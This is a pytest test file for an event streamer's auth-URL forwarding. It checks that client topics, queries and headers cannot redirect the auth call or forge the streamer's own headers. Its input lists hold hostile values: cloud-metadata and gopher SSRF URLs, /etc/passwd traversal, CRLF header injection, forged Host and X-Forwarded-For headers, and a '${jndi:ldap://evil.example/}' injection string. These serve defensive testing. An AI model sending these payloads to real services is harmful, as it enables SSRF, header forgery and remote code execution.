"""What a stranger sends never decides where the auth URL is, nor what the streamer itself says there: scheme, host, port and path
of each call are those of the setting, byte by byte, and its own headers are there once, for whatever topic, query and headers."""
import json
import os
import urllib.parse

import pytest

from auth_backend import AuthBackend, reply
from http_raw import Answer, connect, exchange, read_all
from streamer_program import Streamer
from support import clean_environment

TOPICS = [
    "a", "0", "169.254.169.254", "http://169.254.169.254/latest/meta-data/", "http:169.254.169.254:80", "a@evil.example",
    "user:password@evil.example:8080/", "a//evil.example/", "a/../../etc/passwd", "a/./..", "a/..", "a/", "a//", "a..", "a~", "a=b",
    "a=b=evil/topic=secret", "a+b", "a:80", "unix:/tmp/x:/y", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO",
    "a-_.~:@/+=", "proto__", "a" * 200, "a/" * 100, "A.b-C_d:e@f/g~h+i=j"]
NO_TOPICS = [
    "a%20b", "/a", "../a", "@evil.example", "?x=y", "a?x=y", "a%23b", "%23", "a%26topic=b", "{topic}", "a{topic}", "a%00", "%00",
    "a%0d%0aX-SSE-Topic:%20b", "a%0ab", "a%09b", "a%5cb", "a%2541", "a%25", "a*", "*", "a%5b%5d", "a%3bb", "a%22b", "a'b",
    "a%3cb", "%e2%80%aea", "a%cc%81", "%c0%afa", "%ff", "a" * 201, "sse:control", "%ed%a0%80", "a$b", "a|b", "a%60b", "%2e%2e%2fa",
    "..%2fa"]
QUERIES = [
    "x=http://evil.example/", "auth_url=http://evil.example/", "topic%5b%5d=a", "&&&", "x=%3Ftopic%3Dsecret", "x=a@b:80//", "=",
    "x=%E2%80%AE", "host=evil.example&path=/secret", "x=" + "y" * 4000]
HEADERS = [
    {"Host": "evil.example"}, {"Host": "evil.example:8080"}, {"Host": "127.0.0.1:1"}, {"Host": "[::1]"},
    {"X-SSE-Topic": "secret"}, {"x-sse-topic": "secret"}, {"X-Original-URI": "/forged"}, {"X-Original-Method": "FORGED"},
    {"X-Forwarded-For": "6.6.6.6"}, {"X-Forwarded-For": "6.6.6.6, evil, 198.51.100.7"}, {"X-Forwarded-For": "x\ty"},
    {"X-Forwarded-For": ", ".join(["6.6.6.6"] * 100)}, {"X-Forwarded-Host": "evil.example"}, {"X-Real-IP": "6.6.6.6"},
    {"Forwarded": "for=6.6.6.6;host=evil.example"}, {"Proxy": "http://evil.example:3128/"}, {"Upgrade": "h2c"},
    {"Connection": "X-SSE-Topic, X-Original-URI, Host"}, {"Keep-Alive": "timeout=1"}, {"Expect": "100-continue"},
    {"Accept": "x/y"}, {"Content-Type": "forged/x"}, {"Content-Length": "0"}, {"Range": "bytes=0-1"}, {"If-None-Match": "*"},
    {"X-HTTP-Method-Override": "DELETE"}, {"TE": "trailers"}, {"Referer": "http://evil.example/"},
    {"Cookie": "a=b; X-SSE-Topic: secret"}, {"Cookie": "x" * 7000}, {"Cookie": ";"}, {"Authorization": "Basic " + "e" * 2000},
    {"User-Agent": "\xe9\xff\x80"}, {"User-Agent": "${jndi:ldap://evil.example/}"}, {"Accept-Language": ""},
    {"Origin": "null"}, {"Origin": "http://evil.example/../"}, {"X-Request-Id": "1"}]
BROKEN = [  # what could end a header line and begin another one, or stands there twice
    b"Cookie: a\rX-SSE-Topic: secret\r\n", b"Cookie: a\nX-SSE-Topic: secret\r\n", b"Cookie: a\x00b\r\n", b"User-Agent: a\x01\r\n",
    b"Cookie: a\r\n X-SSE-Topic: secret\r\n", b"Cookie: a\r\nCookie: b\r\n", b"Authorization: a\r\nAuthorization: b\r\n",
    b"Origin: a\r\nOrigin: b\r\n", b"User-Agent : a\r\n", b"X-SSE-Topic\r\n", b": a\r\n", b"Host: evil.example\r\n",
    b"Transfer-Encoding: chunked\r\n"]
OWN = {"host", "x-sse-topic", "x-original-uri", "x-original-method", "x-forwarded-for", "accept"}
FORWARDED = {"authorization", "cookie", "origin", "user-agent", "accept-language", "x-request-id"}


@pytest.fixture
def start(streamer_program, processes, redis, tmp):
    def start(backend, **settings):
        return Streamer(streamer_program, processes, redis.url, tmp,
                        **{"auth": "url", "auth_url": backend.url, "auth_timeout_ms": 10000, **settings}).start()
    return start


@pytest.fixture(params=["tcp", "unix"])
def backend(request, tmp):
    backend = AuthBackend(("127.0.0.1", 0) if request.param == "tcp" else os.path.join(tmp, "backend.sock"))
    backend.host = "127.0.0.1:%d" % backend.server.server_address[1] if request.param == "tcp" else "localhost"
    yield backend
    backend.close()


def send(streamer, query, headers=b"", host=b"Host: x\r\n"):
    """HEAD, so that what is let in ends at once; the bytes of the request as they are."""
    return exchange(streamer.address, b"HEAD /events?" + query.encode("latin-1") + b" HTTP/1.1\r\n" + host + headers + b"\r\n")


def lines_of(headers):
    return "".join(f"{name}: {value}\r\n" for name, value in headers.items()).encode("latin-1")


def header_lines(call):
    """[(name, value)] as they came."""
    return [(name.lower(), value.strip()) for name, _, value in (line.partition(":") for line in call["head"][1:])]


def check_call(backend, call, target, method="GET"):
    """Line and headers of one call; target: what its path and query must be."""
    assert call["head"][0] == f"{method} {target} HTTP/1.1"
    names = [name for name, _ in header_lines(call)]
    assert len(names) == len(set(names)), names
    assert call["headers"]["host"] == backend.host
    assert call["headers"]["x-original-method"] == "HEAD"
    assert set(names) <= OWN | FORWARDED | ({"content-type", "content-length"} if method == "POST" else set()), names


def quoted(topic):
    return urllib.parse.quote(topic, safe="")


# ---- topics ----

@pytest.mark.parametrize("uri, target", [("/auth", "/auth?topic=%s"), ("/auth/{topic}/ok", "/auth/%s/ok"),
                                         ("/a?x=1", "/a?x=1&topic=%s"), ("/a?t={topic}", "/a?t=%s")])
def test_each_topic_arrives_as_it_is_and_touches_nothing_else(start, backend, uri, target):
    backend.answer = lambda call: reply(204)
    streamer = start(backend, auth_url=backend.url.replace("/auth", uri))
    for topic in TOPICS:
        before = len(backend.calls)
        assert send(streamer, "topic=" + quoted(topic)).status == 200, topic
        call, = backend.calls[before:]
        check_call(backend, call, target % quoted(topic))
        assert call["topic"] == topic
        assert urllib.parse.unquote(call["target"]) == urllib.parse.unquote(target % quoted(topic)) == target % topic


def test_topics_of_a_batch_arrive_as_they_are_and_the_address_is_always_the_same(start, backend):
    backend.answer = lambda call: reply(200, json.dumps({"allow": json.loads(call["body"])["topics"]}).encode())
    streamer = start(backend, auth_mode="batch")
    for topics in ([topic] for topic in TOPICS):
        assert send(streamer, "topic=" + ",".join(map(quoted, topics)), b"X-SSE-Topic: secret\r\nContent-Type: x\r\n").status == 200
        check_call(backend, backend.calls[-1], "/auth", "POST")
        assert json.loads(backend.calls[-1]["body"]) == {"topics": topics}
        assert backend.calls[-1]["topic"] is None and backend.calls[-1]["headers"]["content-type"] == "application/json"
    assert send(streamer, "topic=" + ",".join(map(quoted, TOPICS))).status == 200
    assert json.loads(backend.calls[-1]["body"]) == {"topics": TOPICS}


@pytest.mark.parametrize("mode", ["topic", "batch"])
def test_what_is_no_topic_is_asked_of_nobody(start, backend, mode):
    streamer = start(backend, auth_mode=mode)
    for text in NO_TOPICS:
        assert send(streamer, "topic=" + text).status == 400, text
        assert send(streamer, "topic=a," + text).status == 400, text
    assert backend.calls == []


# ---- queries, targets, headers ----

@pytest.mark.parametrize("mode, method, target", [("topic", "GET", "/auth?topic=a"), ("batch", "POST", "/auth")])
def test_no_query_and_no_header_of_a_stranger_gets_into_the_address_or_our_headers(start, backend, mode, method, target):
    backend.answer = lambda call: reply(200, b'{"allow":["a"]}')
    streamer = start(backend, auth_mode=mode)
    for query, headers in [(query, {}) for query in QUERIES] + [("", headers) for headers in HEADERS]:
        before = len(backend.calls)
        asked = "topic=a&" + query
        answer = send(streamer, asked, lines_of(headers), **({"host": b""} if "Host" in headers else {}))
        assert answer.status == 200, (query, headers, answer.raw)
        call, = backend.calls[before:]
        check_call(backend, call, target, method)
        sent = call["headers"]
        assert sent.get("x-sse-topic") == ("a" if mode == "topic" else None)
        assert sent["x-original-uri"] == "/events?" + asked
        assert sent["accept"] == "application/json"
        named = headers.get("X-Forwarded-For", "127.0.0.1")  # by a proxy that is believed: the last one of it counts
        assert sent["x-forwarded-for"] == ("127.0.0.1" if named == "x\ty" else named.rpartition(", ")[2])
        for name, value in headers.items():
            if name.lower() in FORWARDED:
                assert sent[name.lower()] == value


@pytest.mark.parametrize("raw", BROKEN, ids=repr)
def test_what_could_forge_a_header_is_refused_and_asked_of_nobody(start, backend, raw):
    streamer = start(backend)
    assert send(streamer, "topic=a", raw).status in (400, 501)
    assert backend.calls == []


@pytest.mark.parametrize("target", [
    "http://evil.example/events?topic=a", "//evil.example/events?topic=a", "/events/../events?topic=a", "/events%3ftopic=a",
    "/%65vents/?topic=a", "/events?topic=a#x", "events?topic=a", "*", "/events?topic=%zz", "/events?topic=%", "/events;x?topic=a",
    "/events?topic=\xc3\xa9"])
def test_a_strange_target_is_no_stream_and_asked_of_nobody(start, backend, target):
    streamer = start(backend)
    with connect(streamer.address) as s:
        s.sendall(f"GET {target} HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\n\r\n".encode("latin-1"))
        assert Answer(read_all(s)).status in (400, 404)
    assert backend.calls == []


def test_an_address_that_is_claimed_by_somebody_who_is_not_believed_is_not_passed_on(start, backend):
    backend.answer = lambda call: reply(204)
    streamer = start(backend, trusted_proxies="unix")
    assert send(streamer, "topic=a", b"X-Forwarded-For: 6.6.6.6\r\n").status == 200
    assert [value for name, value in header_lines(backend.calls[0]) if name == "x-forwarded-for"] == ["127.0.0.1"]


@pytest.mark.parametrize("name", sorted(OWN - {"accept"}) + ["content-length", "content-type", "transfer-encoding", "connection"])
def test_our_own_headers_cannot_be_named_as_those_to_pass_on(name, streamer_program, processes):
    process = processes.start(streamer_program, "--check", "--set=auth=url", "--set=auth_url=http://localhost/",
                              f"--set=auth_forward_headers=Cookie, {name}", env=clean_environment(), stderr=-1)
    assert process.wait(10) == 2 and b"auth_forward_headers" in process.stderr.read()


def test_the_environment_names_no_proxy(start, backend):
    backend.answer = lambda call: reply(204)
    streamer = start(backend)
    streamer.stop()
    streamer.environment = {name: "http://127.0.0.1:1/" for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY")}
    assert send(streamer.start(), "topic=a").status == 200
